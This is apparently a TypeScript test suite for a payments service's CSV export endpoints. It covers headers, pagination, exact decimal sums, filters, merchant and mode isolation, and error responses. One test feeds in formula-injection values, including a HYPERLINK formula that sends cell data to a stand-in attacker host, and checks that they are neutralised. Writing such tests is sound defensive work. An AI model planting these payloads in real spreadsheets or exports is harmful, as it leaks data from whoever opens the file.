import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import test from 'ava';
import { parse } from 'csv-parse/sync';
import { CreateMerchant, IssueApiKey, MerchantRepository, SetLiveMode } from '@payments/core';
import { FakeClock } from '@payments/in-memory';
import { BALANCE_TRANSACTION_COLUMNS, PAYMENT_INTENT_COLUMNS, SETTLEMENT_COLUMNS } from '../src/routes/exports/columns';
import { asUser, signIn, type SignedInUser } from './helpers/dashboard';
import { apiObjectAt, numberAt, objectAt, textAt, type ApiObject } from './helpers/json';
import { listAll } from './helpers/money-invariants';
import { paymentFlow } from './helpers/payment-flow';
import { startTestApp, unique, type TestApp, type TestResponse } from './helpers/test-app';
import { moneyTick } from './helpers/worker-tick';

/*
 * The CSV exports (docs/exports.md) over real histories, on SQLite or MariaDB: each file's header
 * and rows against the list it pages through, its filters, pages of 7 (PAYMENTS_EXPORT_PAGE_SIZE)
 * so that any history spans many, exact decimals that add up to a settlement, formula injection,
 * merchant and mode isolation, bad filters as JSON errors, and the byte order mark of the
 * dashboard's downloads.
 */

const PAGE_SIZE = 7;
const clock = new FakeClock(new Date('2026-11-28T09:30:00Z'));
let running: TestApp | undefined;
test.before(async () => {
  running = await startTestApp({ clock, env: { PAYMENTS_EXPORT_PAGE_SIZE: String(PAGE_SIZE) } });
});
test.after.always(async () => running?.close());
const app = (): TestApp => {
  if (!running) throw new Error('The test app is not started yet.');
  return running;
};
const tick = moneyTick(app, clock);

type Flow = ReturnType<typeof paymentFlow>;
interface Shop {
  readonly id: string;
  readonly key: string;
  readonly flow: Flow;
  readonly owner: () => Promise<SignedInUser>;
}

/** A merchant settling on request, its key and its payment flow; its owner signs in when asked. */
async function shop(): Promise<Shop> {
  const suffix = unique('csv');
  const created = await app()
    .app.get(CreateMerchant)
    .execute({ name: `Shop ${suffix}`, email: `${suffix}@example.com`, password: 'correct horse battery', settlementCurrency: 'THB' });
  await app().app.get<MerchantRepository>(MerchantRepository).updateSettings(created.merchant.id, { settlementSchedule: 'manual' });
  const key = created.testApiKey.secret;
  let owner: Promise<SignedInUser> | undefined;
  return {
    id: created.merchant.id,
    key,
    flow: paymentFlow(app(), key),
    owner: () => (owner ??= signIn(app(), { merchantId: created.merchant.id, role: 'owner' })),
  };
}

const get = (key: string, url: string): Promise<TestResponse> => app().request({ method: 'GET', url, key });

interface CsvFile {
  readonly header: string[];
  readonly rows: Record<string, string>[];
  readonly filename: string;
  readonly bom: boolean;
}

/** A CSV answer: its content type checked, its rows parsed with csv-parse (RFC 4180). */
function csvOf(res: TestResponse): CsvFile {
  if (res.statusCode !== 200) throw new Error(`expected a CSV file, got ${res.statusCode}: ${res.payload}`);
  if (res.headers['content-type'] !== 'text/csv; charset=utf-8') throw new Error(`content-type ${String(res.headers['content-type'])}`);
  const disposition = /^attachment; filename="([^"]+)"$/.exec(String(res.headers['content-disposition']));
  if (!disposition) throw new Error(`content-disposition ${String(res.headers['content-disposition'])}`);
  const bytes = res.rawPayload;
  const bom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
  const text = bytes.subarray(bom ? 3 : 0).toString('utf8');
  const records: string[][] = parse(text, { relax_column_count: false });
  const [header = [], ...body] = records;
  return { header, rows: body.map((cells) => Object.fromEntries(header.map((name, index) => [name, cells[index] ?? '']))), filename: disposition[1], bom };
}

async function paid(flow: Flow, amount: number, overrides: Record<string, unknown> = {}): Promise<ApiObject> {
  const intent = await flow.createIntent({ amount, payment_method: 'promptpay', ...overrides });
  await flow.attempt(intent.id, { payment_method: 'promptpay' });
  const result = apiObjectAt((await flow.simulate(intent.id, { outcome: 'succeeded' })).result);
  if (result.status !== 'succeeded') throw new Error(`setup: the payment did not succeed: ${JSON.stringify(result)}`);
  return result;
}

async function released(flow: Flow, id: string): Promise<void> {
  for (let i = 0; i < 3 && (await flow.intent(id)).status !== 'channel_settled'; i += 1) await tick();
  if ((await flow.advance(id, 'release')).statusCode !== 200) throw new Error('setup: release refused');
  await tick();
}

/** A decimal string of the file in minor units of a currency with `digits` decimals, by its digits (never a float). */
function minorOf(decimal: string, digits: number): bigint {
  const match = /^(-?)(\d+)(?:\.(\d+))?$/.exec(decimal);
  if (!match) throw new Error(`not a decimal: ${decimal}`);
  const [, sign, whole, fraction = ''] = match;
  if (fraction.length !== digits) throw new Error(`${decimal} has ${fraction.length} decimals, not ${digits}`);
  const value = BigInt(whole + fraction);
  return sign === '-' ? -value : value;
}

const names = (columns: readonly { name: string }[]) => columns.map((column) => column.name);
const ids = (file: CsvFile) => file.rows.map((row) => row.id);
/** The day of the export as a filename names it: the app's clock, in UTC. */
const today = (): string => clock.now().toISOString().slice(0, 10);

test.serial('payment intents: the header, one row per intent as the list orders them, exact decimals, the filters of the list', async (t) => {
  const s = await shop();
  const thb = await s.flow.createIntent({
    amount: 125_050,
    currency: 'THB',
    merchant_order_id: `order, "quoted" ${unique()}`,
    description: 'กาแฟคั่วเข้ม 2 ถุง',
    customer: 'cus_1',
    metadata: { cart: 'c-7731' },
  });
  const usd = await s.flow.createIntent({ amount: 500, currency: 'USD' });
  const done = await paid(s.flow, 30_000);
  const canceled = await s.flow.createIntent({ amount: 7_005 });
  t.is((await s.flow.post(`/v1/payment_intents/${canceled.id}/cancel`)).statusCode, 200);

  const file = csvOf(await get(s.key, '/v1/exports/payment_intents.csv'));
  t.deepEqual(file.header, names(PAYMENT_INTENT_COLUMNS));
  t.is(file.filename, `payment_intents-test-${today()}.csv`);
  t.false(file.bom, 'no byte order mark on the API');
  t.deepEqual(
    ids(file),
    (await listAll(s.flow, '/v1/payment_intents')).map((intent) => intent.id),
    'every intent, in the order of the list',
  );
  const row = (id: string) => file.rows.find((candidate) => candidate.id === id) ?? {};
  t.like(row(thb.id), {
    created: textAt(thb, 'created'),
    mode: 'test',
    status: 'created',
    money_statuses: '',
    merchant_order_id: textAt(thb, 'merchant_order_id'),
    currency: 'THB',
    amount: '1250.50',
    amount_minor: '125050',
    amount_refunded: '0.00',
    amount_refunded_minor: '0',
    settlement_currency: '',
    fee: '',
    net: '',
    description: 'กาแฟคั่วเข้ม 2 ถุง',
    customer: 'cus_1',
    metadata: '{"cart":"c-7731"}',
    expires_at: textAt(thb, 'expires_at'),
  });
  t.like(row(usd.id), { currency: 'USD', amount: '5.00', amount_minor: '500', amount_refunded: '0.00', metadata: '' });
  const fee = numberAt(done, 'fee', 'amount');
  const net = numberAt(done, 'net', 'amount');
  t.like(row(done.id), {
    status: 'succeeded',
    amount: '300.00',
    settlement_currency: 'THB',
    fee_minor: String(fee),
    net_minor: String(net),
    payment_method: 'promptpay',
  });
  t.is(minorOf(row(done.id).fee ?? '', 2) + minorOf(row(done.id).net ?? '', 2), 30_000n, 'fee + net = amount, as decimals');

  const only = async (query: string) => ids(csvOf(await get(s.key, `/v1/exports/payment_intents.csv${query}`)));
  t.deepEqual(await only('?status=canceled'), [canceled.id]);
  t.deepEqual(await only(`?merchant_order_id=${encodeURIComponent(textAt(usd, 'merchant_order_id'))}`), [usd.id]);
  t.deepEqual(await only(`?created[gte]=${encodeURIComponent(new Date(clock.now().getTime() + 60_000).toISOString())}`), [], 'a header and no row');
  const empty = await get(s.key, '/v1/exports/payment_intents.csv?status=expired');
  t.is(empty.payload, `${names(PAYMENT_INTENT_COLUMNS).join(',')}\r\n`, 'nothing kept: the header row alone');
});

test.serial('more intents than a page: 250 arrive whole, in the order of the list, none twice', async (t) => {
  const s = await shop();
  for (let i = 0; i < 250; i += 1) {
    if ((await s.flow.post('/v1/payment_intents', { amount: 1_000 + i, currency: 'THB', merchant_order_id: `bulk-${i}` })).statusCode !== 201) {
      throw new Error('setup: create refused');
    }
    // Some share a second, some do not: the cursor orders both.
    if (i % 40 === 0) clock.advance(1000);
  }
  const file = csvOf(await get(s.key, '/v1/exports/payment_intents.csv'));
  t.is(file.rows.length, 250, `${Math.ceil(250 / PAGE_SIZE)} pages of ${PAGE_SIZE}`);
  t.is(new Set(ids(file)).size, 250);
  t.deepEqual(
    ids(file),
    (await listAll(s.flow, '/v1/payment_intents')).map((intent) => intent.id),
  );
  t.deepEqual(
    file.rows.map((row) => row.merchant_order_id),
    Array.from({ length: 250 }, (_, i) => `bulk-${249 - i}`),
    'newest first',
  );
  const dashboard = csvOf(await asUser(app(), await s.owner(), { method: 'GET', url: '/dashboard/v1/exports/payment_intents.csv?mode=test&q=BULK-24' }));
  t.deepEqual(
    dashboard.rows.map((row) => row.merchant_order_id),
    ['bulk-249', 'bulk-248', 'bulk-247', 'bulk-246', 'bulk-245', 'bulk-244', 'bulk-243', 'bulk-242', 'bulk-241', 'bulk-240', 'bulk-24'],
    'the dashboard list’s own filters: an order id’s beginning, any case',
  );
});

test.serial('a formula in a text cell is written after a single quote; numbers, negative ones included, are not touched', async (t) => {
  const s = await shop();
  const hostile = await paid(s.flow, 20_000, {
    merchant_order_id: `=HYPERLINK("https://evil.example/?"&A1,"click") ${unique()}`,
    description: '+SUM(1,2)',
    customer: '@cmd',
    metadata: { note: '-2+3' },
  });
  const tabbed = await s.flow.createIntent({ merchant_order_id: `\tTAB-${unique()}`, description: '\rCR first' });
  const plain = await s.flow.createIntent({ merchant_order_id: `a=b ${unique()}`, description: 'safe - text' });
  const file = csvOf(await get(s.key, '/v1/exports/payment_intents.csv'));
  const row = (id: string) => file.rows.find((candidate) => candidate.id === id) ?? {};
  t.is(row(hostile.id).merchant_order_id, `'${textAt(hostile, 'merchant_order_id')}`);
  t.is(row(hostile.id).description, "'+SUM(1,2)");
  t.is(row(hostile.id).customer, "'@cmd");
  t.is(row(hostile.id).metadata, '{"note":"-2+3"}', 'a JSON object starts with a brace: nothing to guard');
  t.is(row(tabbed.id).merchant_order_id, `'${textAt(tabbed, 'merchant_order_id')}`);
  t.is(row(tabbed.id).description, "'\rCR first");
  t.is(row(plain.id).merchant_order_id, textAt(plain, 'merchant_order_id'), 'only the first character counts');
  t.is(row(plain.id).description, 'safe - text');

  // A refund's line: its negative amounts stay numbers.
  const refund = await s.flow.post('/v1/refunds', { payment_intent: hostile.id, amount: 150 });
  t.is(refund.statusCode, 201, refund.payload);
  const lines = csvOf(await get(s.key, `/v1/exports/balance_transactions.csv?type=refund&payment_intent=${hostile.id}`));
  t.is(lines.rows.length, 1);
  t.like(lines.rows[0], { amount: '-1.50', amount_minor: '-150' });
  t.regex(lines.rows[0]?.net ?? '', /^-1\.\d\d$/);
  const raw = (await get(s.key, `/v1/exports/balance_transactions.csv?type=refund&payment_intent=${hostile.id}`)).payload;
  t.true(raw.includes(',-1.50,-150,'), 'no quote before a negative number');
});

test.serial('a settlement: its balance transactions add up to its amount as decimals, and its row sums its lines', async (t) => {
  const s = await shop();
  const first = await paid(s.flow, 125_050);
  const second = await paid(s.flow, 40_000);
  await released(s.flow, first.id);
  await released(s.flow, second.id);
  const refund = await s.flow.post('/v1/refunds', { payment_intent: first.id, amount: 25_050 });
  t.is(refund.statusCode, 201, refund.payload);
  await tick();
  const made = await s.flow.post('/v1/settlements', {});
  t.is(made.statusCode, 201, made.payload);
  const settlement = apiObjectAt(made.result);
  const amount = BigInt(numberAt(settlement, 'amount', 'amount'));

  const res = await get(s.key, `/v1/exports/balance_transactions.csv?settlement=${settlement.id}`);
  const file = csvOf(res);
  t.deepEqual(file.header, names(BALANCE_TRANSACTION_COLUMNS));
  t.is(file.filename, `balance_transactions-test-${today()}-${settlement.id}.csv`);
  t.deepEqual(
    ids(file),
    (await listAll(s.flow, `/v1/balance_transactions?settlement=${settlement.id}`)).map((line) => line.id),
  );
  t.deepEqual(file.rows.map((row) => row.type).sort(), ['refund', 'release', 'release', 'settlement']);
  const lines = file.rows.filter((row) => row.type !== 'settlement');
  const own = file.rows.find((row) => row.type === 'settlement');
  t.is(
    lines.reduce((sum, row) => sum + minorOf(row.moves_available ?? '', 2), 0n),
    amount,
    'the lines it covers move available by its amount (decimals, summed in minor units)',
  );
  t.is(
    lines.reduce((sum, row) => sum + BigInt(row.moves_available_minor ?? ''), 0n),
    amount,
  );
  t.like(own, { source: settlement.id, settlement: settlement.id, amount_minor: String(-amount), moves_available_minor: String(-amount), payment_intent: '' });
  for (const row of file.rows) {
    t.is(minorOf(row.amount ?? '', 2) - minorOf(row.fee ?? '', 2), minorOf(row.net ?? '', 2), `${row.id}: amount − fee = net`);
    t.is(
      minorOf(row.moves_pending ?? '', 2) + minorOf(row.moves_available ?? '', 2) + minorOf(row.moves_dispute_hold ?? '', 2),
      minorOf(row.net ?? '', 2),
      `${row.id}: its moves sum to its net`,
    );
  }

  const settlements = csvOf(await get(s.key, '/v1/exports/settlements.csv'));
  t.deepEqual(settlements.header, names(SETTLEMENT_COLUMNS));
  t.is(settlements.filename, `settlements-test-${today()}.csv`);
  t.is(settlements.rows.length, 1);
  const row = settlements.rows[0] ?? {};
  t.like(row, { id: settlement.id, status: 'paid', currency: 'THB', amount_minor: String(amount), payments: '2', other_amount: '0.00' });
  t.is(minorOf(row.amount ?? '', 2), amount);
  const parts = Object.keys(row).filter((name) => name.endsWith('_amount'));
  t.deepEqual(parts, [
    'release_amount',
    'refund_amount',
    'refund_reversal_amount',
    'dispute_hold_amount',
    'dispute_release_amount',
    'dispute_loss_amount',
    'settlement_failure_amount',
    'adjustment_amount',
    'other_amount',
  ]);
  t.is(
    parts.reduce((sum, name) => sum + minorOf(row[name] ?? '', 2), 0n),
    amount,
    'its lines by type add up to its amount',
  );
  const summary = objectAt(settlement, 'summary', 'lines', 'release');
  t.is(minorOf(row.release_gross ?? '', 2), BigInt(numberAt(summary, 'gross')));
  t.is(minorOf(row.refund_amount ?? '', 2), BigInt(numberAt(settlement, 'summary', 'lines', 'refund', 'amount')));

  // The dashboard's file of the same settlement is the same file, with a byte order mark.
  const owner = await s.owner();
  const dashboard = await asUser(app(), owner, { method: 'GET', url: `/dashboard/v1/exports/balance_transactions.csv?mode=test&settlement=${settlement.id}` });
  const downloaded = csvOf(dashboard);
  t.true(downloaded.bom, 'a byte order mark first on the dashboard');
  t.deepEqual(downloaded.rows, file.rows);
  t.deepEqual([...dashboard.rawPayload.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  t.deepEqual(dashboard.rawPayload.subarray(3), res.rawPayload, 'the same bytes after it');
  const dashboardSettlements = csvOf(await asUser(app(), owner, { method: 'GET', url: '/dashboard/v1/exports/settlements.csv?mode=test' }));
  t.true(dashboardSettlements.bom);
  t.deepEqual(dashboardSettlements.rows, settlements.rows);
});

test.serial('the balance transaction filters keep what the list keeps', async (t) => {
  const s = await shop();
  const a = await paid(s.flow, 10_000);
  clock.advance(24 * 3600 * 1000);
  const b = await paid(s.flow, 20_000);
  await released(s.flow, b.id);
  const made = await s.flow.post('/v1/settlements', {});
  t.is(made.statusCode, 201, made.payload);
  const day = (offset: number) => new Date(clock.now().getTime() + offset * 24 * 3600 * 1000).toISOString().slice(0, 10);
  const queries = [
    '',
    '?type=payment',
    `?payment_intent=${a.id}`,
    `?payment_intent=${b.id}&type=release`,
    '?currency=THB',
    '?currency=USD',
    `?created[gte]=${day(0)}`,
    `?created[lte]=${day(-1)}`,
    `?available_on[gte]=${day(-1)}&available_on[lte]=${day(0)}`,
    `?settlement=${apiObjectAt(made.result).id}`,
  ];
  for (const query of queries) {
    const file = csvOf(await get(s.key, `/v1/exports/balance_transactions.csv${query}`));
    const listed = await listAll(s.flow, `/v1/balance_transactions${query}`);
    t.deepEqual(
      ids(file),
      listed.map((line) => line.id),
      query || '(no filter)',
    );
  }
  t.true(csvOf(await get(s.key, `/v1/exports/balance_transactions.csv?created[lte]=${day(-1)}`)).rows.length > 0);
  const dashboard = csvOf(
    await asUser(app(), await s.owner(), {
      method: 'GET',
      url: `/dashboard/v1/exports/balance_transactions.csv?mode=test&type=payment&created[gte]=${day(0)}`,
    }),
  );
  t.deepEqual(
    dashboard.rows.map((row) => row.payment_intent),
    [b.id],
  );
});

test.serial('merchant and mode: an export holds the caller’s merchant and mode only', async (t) => {
  const mine = await shop();
  const theirs = await shop();
  const intent = await paid(mine.flow, 12_300);
  await released(mine.flow, intent.id);
  await mine.flow.post('/v1/settlements', {});
  await theirs.flow.createIntent({ amount: 999 });

  for (const file of ['payment_intents', 'settlements', 'balance_transactions']) {
    const ownRows = csvOf(await get(mine.key, `/v1/exports/${file}.csv`)).rows;
    t.true(ownRows.length > 0, file);
    const otherRows = csvOf(await get(theirs.key, `/v1/exports/${file}.csv`)).rows;
    t.false(
      otherRows.some((row) => ownRows.some((own) => own.id === row.id)),
      `${file}: nothing of another merchant`,
    );
    const live = await asUser(app(), await mine.owner(), { method: 'GET', url: `/dashboard/v1/exports/${file}.csv?mode=live` });
    t.deepEqual(csvOf(live).rows, [], `${file}: nothing of test mode in live`);
    const viewer = await signIn(app(), { merchantId: theirs.id, role: 'viewer' });
    const outsider = csvOf(await asUser(app(), viewer, { method: 'GET', url: `/dashboard/v1/exports/${file}.csv?mode=test` }));
    t.false(
      outsider.rows.some((row) => ownRows.some((own) => own.id === row.id)),
      `${file}: another merchant's people see none of it`,
    );
  }
  await app().app.get(SetLiveMode).execute({ merchantId: mine.id, enabled: true });
  const liveKey = (await app().app.get(IssueApiKey).execute({ merchantId: mine.id, mode: 'live' })).secret;
  const live = csvOf(await get(liveKey, '/v1/exports/balance_transactions.csv'));
  t.deepEqual(live.rows, []);
  t.is(live.filename, `balance_transactions-live-${today()}.csv`);
});

test.serial('a bad filter, a page parameter or no credential: the JSON error envelope, and no file', async (t) => {
  const s = await shop();
  const refusals: [string, number, string, string | undefined][] = [
    ['/v1/exports/payment_intents.csv?limit=5', 400, 'invalid_parameter', 'limit'],
    ['/v1/exports/payment_intents.csv?starting_after=pi_1', 400, 'invalid_parameter', 'starting_after'],
    ['/v1/exports/payment_intents.csv?status=paid', 400, 'invalid_parameter', 'status'],
    ['/v1/exports/settlements.csv?status=paid', 400, 'invalid_parameter', 'status'],
    ['/v1/exports/balance_transactions.csv?created[gte]=2026-02-30', 400, 'invalid_parameter', 'created[gte]'],
    ['/v1/exports/balance_transactions.csv?available_on[lte]=tomorrow', 400, 'invalid_parameter', 'available_on[lte]'],
    ['/v1/exports/balance_transactions.csv?settlement=pi_123', 400, 'invalid_parameter', 'settlement'],
  ];
  for (const [url, status, code, param] of refusals) {
    const res = await get(s.key, url);
    t.is(res.statusCode, status, url);
    t.regex(String(res.headers['content-type']), /^application\/json/, url);
    t.is(res.headers['content-disposition'], undefined, url);
    t.like(objectAt(res.result, 'error'), { code, ...(param === undefined ? {} : { param }) }, url);
  }
  const anonymous = await app().request({ method: 'GET', url: '/v1/exports/settlements.csv' });
  t.is(anonymous.statusCode, 401);
  t.like(objectAt(anonymous.result, 'error'), { code: 'authentication_required' });
  const owner = await s.owner();
  for (const [url, param] of [
    ['/dashboard/v1/exports/payment_intents.csv', 'mode'],
    ['/dashboard/v1/exports/payment_intents.csv?mode=test&created_lte=2026-13-01', 'created_lte'],
    ['/dashboard/v1/exports/balance_transactions.csv?mode=test&limit=3', 'limit'],
  ] as const) {
    const res = await asUser(app(), owner, { method: 'GET', url });
    t.is(res.statusCode, 400, url);
    t.like(objectAt(res.result, 'error'), { code: 'invalid_parameter', param }, url);
  }
  const signedOut = await app().request({ method: 'GET', url: '/dashboard/v1/exports/balance_transactions.csv?mode=test' });
  t.is(signedOut.statusCode, 401);
  t.like(objectAt(signedOut.result, 'error'), { code: 'authentication_required' });
});

test('docs/exports.md lists every column of each file, in the order of its header row', (t) => {
  const doc = readFileSync(join(__dirname, '..', '..', '..', '..', 'docs', 'exports.md'), 'utf8');
  for (const [file, columns] of [
    ['payment_intents', PAYMENT_INTENT_COLUMNS],
    ['settlements', SETTLEMENT_COLUMNS],
    ['balance_transactions', BALANCE_TRANSACTION_COLUMNS],
  ] as const) {
    const section = doc.split(`## \`${file}.csv\``)[1]?.split('\n## ')[0] ?? '';
    const documented = [...section.matchAll(/^\| ((?:`[a-z_]+`(?:, )?)+) \|/gm)].flatMap((match) =>
      [...(match[1] ?? '').matchAll(/`([a-z_]+)`/g)].map((name) => name[1]),
    );
    t.deepEqual(documented, names(columns), file);
  }
});
